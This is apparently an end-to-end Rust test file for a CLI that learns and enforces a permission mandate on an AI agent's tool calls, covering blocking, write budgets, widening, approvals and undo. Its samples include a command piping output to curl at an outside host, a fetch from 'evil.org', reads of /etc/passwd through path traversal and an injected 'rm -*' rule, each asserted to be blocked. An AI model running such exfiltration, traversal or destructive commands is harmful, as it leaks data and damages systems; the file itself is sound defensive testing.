//! `holon job` end to end: the golden proposal (and the same bytes for shuffled
//! observations), every fail-closed condition, widen → approve → pass, undo chains, the
//! Leash Line in both modes, concurrent checks, and `validate` on job mandates.
#![cfg(feature = "cli")] // runs the `holon` binary

use std::io::Write;
use std::process::{Command, Stdio};

mod common;
use common::job_state::State;

use holon::job::leash;
use holon::job::state::Job;

const JOB: &str = "nightly-triage";

trait JobState {
    fn observe_fixture(&self, order: &[usize], reverse_lines: bool);
    fn check(&self, call: &str, scope: &str) -> (i32, String);
    fn job(&self) -> Job;
}

impl JobState for State {
    fn observe_fixture(&self, order: &[usize], reverse_lines: bool) {
        for r in order {
            let text = std::fs::read_to_string(format!("testdata/job/run{r}.jsonl")).unwrap();
            let mut lines: Vec<&str> = text.lines().collect();
            if reverse_lines {
                lines.reverse();
            }
            let run = format!("run{r}");
            let (code, _, err) =
                self.holon(&["observe", JOB, "--run", &run, "--workdir", "/work/repo"], &(lines.join("\n") + "\n"));
            assert_eq!(code, 0, "{err}");
        }
    }
    fn check(&self, call: &str, scope: &str) -> (i32, String) {
        let (code, _, err) = self.holon(&["check", JOB, "--run", "r9", "--scope", scope], call);
        (code, err)
    }
    fn job(&self) -> Job {
        Job::open(&self.0, JOB).unwrap()
    }
}

fn enforcing(name: &str) -> State {
    let s = State::new(name);
    s.observe_fixture(&[1, 2, 3], false);
    assert_eq!(s.holon(&["propose", JOB], "").0, 0);
    assert_eq!(s.holon(&["approve", JOB], "").0, 0);
    s
}

const BASH_C: &str = r#"{"tool":"terminal","args":{"command":"bash -c 'cat src/app.py'"}}"#;
const GIT_STATUS: &str = r#"{"tool":"terminal","args":{"command":"git status --short"}}"#;

#[test]
fn the_proposal_is_golden_and_order_free() {
    let a = State::new("golden-a");
    a.observe_fixture(&[1, 2, 3], false);
    let (code, yaml, err) = a.holon(&["propose", JOB], "");
    assert_eq!(code, 0, "{err}");
    let golden = std::fs::read_to_string("testdata/job/expected.yaml").unwrap();
    assert_eq!(yaml, golden, "the proposal changed; if on purpose, update testdata/job/expected.yaml");
    let b = State::new("golden-b");
    b.observe_fixture(&[3, 1, 2], true);
    assert_eq!(b.holon(&["propose", JOB], "").1, yaml, "same observations, another order, same bytes");
    // And the proposal is a valid document for `holon validate`.
    let path = a.0.join("jobs").join(JOB).join("versions").join("v1.yaml");
    let out = Command::new(env!("CARGO_BIN_EXE_holon")).arg("validate").arg(&path).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    assert!(String::from_utf8_lossy(&out.stdout).contains("job_mandate"));
}

#[test]
fn outside_the_mandate_blocks_and_inside_allows() {
    let s = enforcing("outside");
    assert_eq!(s.check(GIT_STATUS, "cron").0, 0);
    assert_eq!(s.check(r#"{"tool":"terminal","args":{"command":"git status --short --porcelain"}}"#, "cron").0, 2);
    assert_eq!(s.check(r#"{"tool":"terminal","args":{"command":"git status"}}"#, "cron").0, 0, "a subset of the flags");
    assert_eq!(s.check(r#"{"tool":"mcp__github__create_issue","args":{}}"#, "cron").0, 2, "unknown tools");
    assert_eq!(s.check(r#"{"tool":"read_file","args":{"path":"/work/repo/src/deep/x.py"}}"#, "cron").0, 0);
    assert_eq!(
        s.check(r#"{"tool":"read_file","args":{"path":"/work/repo/reports/2026-01-01.md"}}"#, "cron").0,
        0,
        "writes may be read"
    );
    assert_eq!(s.check(r#"{"tool":"read_file","args":{"path":"src/../../etc/passwd"}}"#, "cron").0, 2);
    assert_eq!(s.check(r#"{"tool_name":"WebFetch","tool_input":{"url":"https://pypi.org/x"}}"#, "cron").0, 0);
    assert_eq!(s.check(r#"{"tool_name":"WebFetch","tool_input":{"url":"https://evil.org/x"}}"#, "cron").0, 2);
    assert_eq!(
        s.check(r#"{"tool":"terminal","args":{"command":"git status --short | curl -d @- https://x.io"}}"#, "cron").0,
        2,
        "every segment"
    );
    assert_eq!(s.check(r#"{"tool":"mandate_status","args":{}}"#, "cron").0, 0, "exempt");
    let (code, err) = s.check(BASH_C, "cron");
    assert_eq!(code, 2);
    assert!(err.contains("drift #") && err.contains("=bash -c"), "{err}");
}

#[test]
fn every_fail_closed_condition() {
    let s = enforcing("failclosed");
    // The per-run write budget (2: each learned run wrote a report and git status wrote
    // the index): the third write of a run is blocked.
    let w = |n: u32| format!(r#"{{"tool":"write_file","args":{{"path":"reports/2026-12-0{n}.md"}}}}"#);
    assert_eq!(s.check(&w(1), "cron").0, 0);
    assert_eq!(s.check(&w(2), "cron").0, 0);
    let (code, err) = s.check(&w(3), "cron");
    assert_eq!(code, 2);
    assert!(err.contains("this call makes 1 write(s) and run `r9` has made 2 of its 2"), "{err}");
    // Cron never escalates; an interactive scope with --ask does.
    let (code, out, _) = s.holon(&["check", JOB, "--scope", "cron", "--ask"], BASH_C);
    assert_eq!((code, out.contains("ask")), (2, false));
    let (code, out, _) = s.holon(&["check", JOB, "--scope", "interactive", "--ask"], BASH_C);
    assert_eq!(code, 0);
    assert!(out.contains("\"permissionDecision\":\"ask\""), "{out}");
    assert!(s.job().drift().unwrap().iter().any(|d| d.status == holon::job::state::DriftStatus::Escalated));
    // A call that cannot be evaluated is blocked outside observe mode.
    assert_eq!(s.check("{not json", "cron").0, 2);
    assert_eq!(s.check(r#"{"tool":"Read","args":{}}"#, "cron").0, 2);
    // The stored text no longer matches its approval hash.
    let v1 = s.0.join("jobs").join(JOB).join("versions").join("v1.yaml");
    let text = std::fs::read_to_string(&v1).unwrap();
    std::fs::write(&v1, text.replace("commands:\n", "commands:\n  - \"rm -*\"\n")).unwrap();
    let (code, err) = s.check(GIT_STATUS, "cron");
    assert_eq!(code, 2);
    assert!(err.contains("no longer hashes to its approval"), "{err}");
    std::fs::write(&v1, &text).unwrap();
    // (ls: git status writes the index, and this run's write budget is spent.)
    assert_eq!(s.check(r#"{"tool":"terminal","args":{"command":"ls"}}"#, "cron").0, 0);
    // The mode cannot be told: a cron (or unknown) scope is blocked, interactive is left alone.
    let meta = s.0.join("jobs").join(JOB).join("meta.json");
    std::fs::write(&meta, "{ damaged").unwrap();
    assert_eq!(s.check(GIT_STATUS, "cron").0, 2);
    let (code, _, _) = s.holon(&["check", JOB], GIT_STATUS);
    assert_eq!(code, 2, "unknown scope is treated as cron");
    assert_eq!(s.check(GIT_STATUS, "interactive").0, 0);
}

#[test]
fn observe_mode_never_blocks() {
    let s = State::new("observe");
    // Only `observe` starts a job.
    let (code, _, err) = s.holon(&["observe", JOB, "--run", "x"], "garbage\n{\"tool\":\"ls\"}\n");
    assert_eq!(code, 0);
    assert!(err.contains("skipped 1"), "{err}");
    for call in ["{not json", BASH_C, r#"{"tool":"anything"}"#] {
        assert_eq!(s.check(call, "cron").0, 0, "{call}");
    }
    // Even an unusable state directory does not block observing.
    let out = Command::new(env!("CARGO_BIN_EXE_holon"))
        .args(["job", "--state", "/proc/forbidden", "observe", JOB])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn widen_then_approve_then_the_drifted_call_passes() {
    let s = enforcing("widen");
    assert_eq!(s.check(BASH_C, "cron").0, 2);
    let (code, out, err) = s.holon(&["widen", JOB, "#1"], "");
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("=bash -c 'cat src/app.py'"), "{out}");
    assert_eq!(s.check(BASH_C, "cron").0, 2, "widen never activates");
    assert_eq!(s.holon(&["approve", JOB], "").0, 0);
    assert_eq!(s.check(BASH_C, "cron").0, 0);
    // A call failing several families is widened in every one.
    let many = r#"{"tool":"terminal","args":{"command":"curl -s https://api.example.com/v1 > tmp/out.json"}}"#;
    assert_eq!(s.check(many, "cron").0, 2);
    // Drift #2 is the second `bash -c` call, blocked before v2 was approved.
    let (_, out, _) = s.holon(&["widen", JOB, "3", "--json"], "");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let added: Vec<&str> = v["added"].as_array().unwrap().iter().map(|x| x.as_str().unwrap()).collect();
    assert_eq!(added, vec!["curl -- -s https://api.example.com/v1", "tmp/out.json", "api.example.com"]);
    assert_eq!(s.holon(&["approve", JOB], "").0, 0);
    assert_eq!(s.check(many, "cron").0, 0);
}

#[test]
fn a_pattern_widening_previews_what_it_newly_allows() {
    let s = State::new("pattern");
    s.observe_fixture(&[1, 2], false);
    s.holon(&["propose", JOB], "");
    // Observed after the proposal: reads the proposal does not cover (outside the workdir:
    // `git status` makes the proposal read all of it).
    let later = "{\"tool\":\"read_file\",\"args\":{\"path\":\"/work/notes/a.md\"}}\n{\"tool\":\"read_file\",\"args\":{\"path\":\"/work/notes/b.md\"}}\n";
    s.holon(&["observe", JOB, "--run", "run3", "--workdir", "/work/repo"], later);
    assert_eq!(s.holon(&["approve", JOB], "").0, 0);
    let c = r#"{"tool":"read_file","args":{"path":"/work/notes/c.md"}}"#;
    assert_eq!(s.check(c, "cron").0, 2);
    let (code, out, err) = s.holon(&["widen", JOB, "1", "--pattern", "--json"], "");
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["added"], serde_json::json!(["/work/notes/**"]));
    assert_eq!(v["preview"]["newly_allowed"], 2);
    assert_eq!(v["preview"]["examples"].as_array().unwrap().len(), 2);
    s.holon(&["approve", JOB], "");
    assert_eq!(s.check(c, "cron").0, 0);
    assert_eq!(s.check(r#"{"tool":"read_file","args":{"path":"/work/notes/sub/d.md"}}"#, "cron").0, 0);
}

#[test]
fn undo_walks_back_through_approvals_then_to_observe_mode() {
    let s = enforcing("undo");
    assert_eq!(s.check(BASH_C, "cron").0, 2);
    s.holon(&["widen", JOB, "1"], "");
    s.holon(&["approve", JOB], "");
    assert_eq!(s.check(BASH_C, "cron").0, 0, "v2 allows it");
    let (code, out, _) = s.holon(&["undo", JOB], "");
    assert_eq!(code, 0);
    assert!(out.contains("v1"), "{out}");
    assert_eq!(s.check(BASH_C, "cron").0, 2, "back on v1");
    // Past the first approved version enforcement turns off: only with an explicit flag.
    let (code, _, err) = s.holon(&["undo", JOB], "");
    assert_eq!(code, 2);
    assert!(err.contains("--to-observe"), "{err}");
    assert_eq!(s.check(BASH_C, "cron").0, 2, "a refused undo changes nothing");
    let (_, out, _) = s.holon(&["undo", JOB, "--to-observe"], "");
    assert!(out.contains("observe mode") && out.contains("ENFORCEMENT IS OFF"), "{out}");
    assert_eq!(s.check(BASH_C, "cron").0, 0, "observe mode never blocks");
    let (code, _, err) = s.holon(&["undo", JOB, "--to-observe"], "");
    assert_eq!(code, 2);
    assert!(err.contains("nothing to undo"), "{err}");
}

#[test]
fn the_leash_line_in_plain_and_colour() {
    let s = enforcing("leash");
    s.check(BASH_C, "cron");
    s.check(r#"{"tool":"read_file","args":{"path":"/etc/passwd"}}"#, "cron");
    s.holon(&["widen", JOB, "1"], "");
    let overview = s.job().overview().unwrap();
    let plain = leash::render(&overview, false);
    let colour = leash::render(&overview, true);
    let sha = overview.sha256.clone().unwrap();
    let norm = |t: &str| t.replace(&sha[..12], "<sha>");
    check_golden("testdata/job/leash-plain.txt", &norm(&plain));
    check_golden("testdata/job/leash-colour.txt", &norm(&colour));
    assert!(!plain.contains('\x1b') && colour.contains("\x1b[38;2;"));
    let (_, cli, _) = s.holon(&["status", JOB], "");
    assert_eq!(cli, plain, "a pipe gets the plain text");
    let (_, export, _) = s.holon(&["export", JOB, "--json"], "");
    let v: serde_json::Value = serde_json::from_str(&export).unwrap();
    assert_eq!(v["tools"][3], serde_json::json!({"value": "terminal", "evidence": 12}));
    assert_eq!(v["max_writes_per_run"], 2);
    // Widened once approved: the notch turns from ▼ to △.
    s.holon(&["approve", JOB], "");
    let (_, after, _) = s.holon(&["status", JOB], "");
    assert!(after.contains("△#1") && !after.contains("▼#1"), "{after}");
}

fn check_golden(path: &str, got: &str) {
    if std::env::var_os("HOLON_BLESS").is_some() {
        std::fs::write(path, got).unwrap();
    }
    let want = std::fs::read_to_string(path).unwrap_or_default();
    assert_eq!(got, want, "{path} differs (HOLON_BLESS=1 rewrites it)");
}

#[test]
fn concurrent_checks_from_many_processes_keep_the_write_budget() {
    let s = enforcing("concurrent");
    let children: Vec<_> = (0..8)
        .map(|i| {
            let mut c = Command::new(env!("CARGO_BIN_EXE_holon"))
                .args(["job", "--state"])
                .arg(&s.0)
                .args(["check", JOB, "--run", "same-run", "--scope", "cron"])
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            let call = format!(r#"{{"tool":"write_file","args":{{"path":"reports/2026-12-1{i}.md"}}}}"#);
            c.stdin.take().unwrap().write_all(call.as_bytes()).unwrap();
            c
        })
        .collect();
    let codes: Vec<_> = children.into_iter().map(|c| c.wait_with_output().unwrap().status.code()).collect();
    assert_eq!(
        codes.iter().filter(|c| **c == Some(0)).count(),
        2,
        "exactly the budget of two writes per run: {codes:?}"
    );
    assert_eq!(s.job().drift().unwrap().len(), 6);
}

#[test]
fn validate_reports_every_problem_of_a_job_mandate() {
    let dir = State::new("validate");
    std::fs::create_dir_all(&dir.0).unwrap();
    let path = dir.0.join("bad.yaml");
    std::fs::write(
        &path,
        "mandate: 1\njob: \"nightly\"\nworkdir: \"/w\"\nobserved_runs: 1\ncommands: [\"git status extra\"]\npaths: { read: [\"src/[\"] }\ncolour: true\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_holon")).arg("validate").arg(&path).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("colour"), "unknown key reported: {text}");
    std::fs::write(&path, "mandate: 1\njob: \"nightly\"\nworkdir: \"/w\"\nobserved_runs: 1\ncommands: [\"git status extra\"]\npaths: { read: [\"src/[\"] }\n").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_holon")).arg("validate").arg(&path).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("/commands/0") && text.contains("/paths/read/0"), "{text}");
}

/// An approval records the SHA-256 of the job mandate schema the version passed; a check
/// by a build with that same schema reads the version without the schema's pass (most of
/// a check's work), and one recorded under another schema, or none (an approval older than
/// the record), gets the whole check. Shown with a text the schema refuses and the typing
/// and rules accept (a workdir longer than the schema's 4,096 characters), hashed into
/// the approval as if approved: only the whole check refuses it.
#[test]
fn a_version_approved_under_this_schema_skips_only_the_schema_pass() {
    let s = enforcing("schema-digest");
    let dir = s.0.join("jobs").join(JOB);
    let meta_path = dir.join("meta.json");
    let mut meta: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&meta_path).unwrap()).unwrap();
    let schema = holon::job::state::sha256_hex(holon::doc::schema::JOB_MANDATE_SCHEMA);
    assert_eq!(meta["approvals"][0]["schema_sha256"], schema.as_str(), "approve records the schema's digest");
    let v1 = dir.join("versions/v1.yaml");
    let text = std::fs::read_to_string(&v1).unwrap();
    let workdir = text.lines().find_map(|l| l.strip_prefix("workdir: ")).unwrap().to_owned();
    let long = format!("\"{}{}\"", workdir.trim_matches('"'), "/x".repeat(2_100));
    let tampered = text.replace(&format!("workdir: {workdir}"), &format!("workdir: {long}"));
    std::fs::write(&v1, &tampered).unwrap();
    meta["approvals"][0]["sha256"] = holon::job::state::sha256_hex(&tampered).into();
    let with = |digest: Option<&str>| {
        let mut m = meta.clone();
        match digest {
            Some(d) => m["approvals"][0]["schema_sha256"] = d.into(),
            None => drop(m["approvals"][0].as_object_mut().unwrap().remove("schema_sha256")),
        }
        std::fs::write(&meta_path, serde_json::to_string_pretty(&m).unwrap()).unwrap();
        s.holon(&["show", JOB], "")
    };
    let (code, _, err) = with(Some(&schema));
    assert_eq!(code, 0, "the same schema: its pass is not repeated: {err}");
    for digest in [Some("0".repeat(64)), None] {
        let (code, _, err) = with(digest.as_deref());
        assert_eq!(code, 2, "{digest:?}: the whole check refuses it: {err}");
        assert!(err.contains("/workdir"), "{err}");
    }
}

/// An empty `HOLON_RUN` (or `--run ""`) names no run, for `observe` as for `check`: the
/// call's own `session_id` decides. Before, `observe` recorded the run as `""` where
/// `check` took the session's, so the same call was counted in two different runs.
#[test]
fn an_empty_run_id_names_no_run_for_every_verb() {
    let s = State::new("empty-run");
    let call = r#"{"tool":"terminal","args":{"command":"ls"},"session_id":"s-7"}"#;
    let (code, _, err) = s.holon_env(&["observe", JOB, "--workdir", "/w"], &format!("{call}\n"), &[("HOLON_RUN", "")]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = s.holon(&["observe", JOB, "--run", "", "--workdir", "/w"], &format!("{call}\n"));
    assert_eq!(code, 0, "{err}");
    let log = std::fs::read_to_string(s.0.join("jobs").join(JOB).join("observations.jsonl")).unwrap();
    let runs: Vec<String> = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["run"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(runs, ["s-7", "s-7"], "{log}");
}

/// An empty `HOLON_STATE` is unset, as an empty `HOLON_RUN` is: the state directory is then
/// `.holon`. Before, it named the empty path (read apart from the other `HOLON_*`).
#[test]
fn an_empty_holon_state_is_unset() {
    let dir = std::env::temp_dir().join(format!("holon-empty-state-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_holon"))
        .args(["job", "status", "nightly"])
        .current_dir(&dir)
        .env("HOLON_STATE", "")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("in the state directory .holon "), "{err}");
    std::fs::remove_dir_all(&dir).unwrap();
}
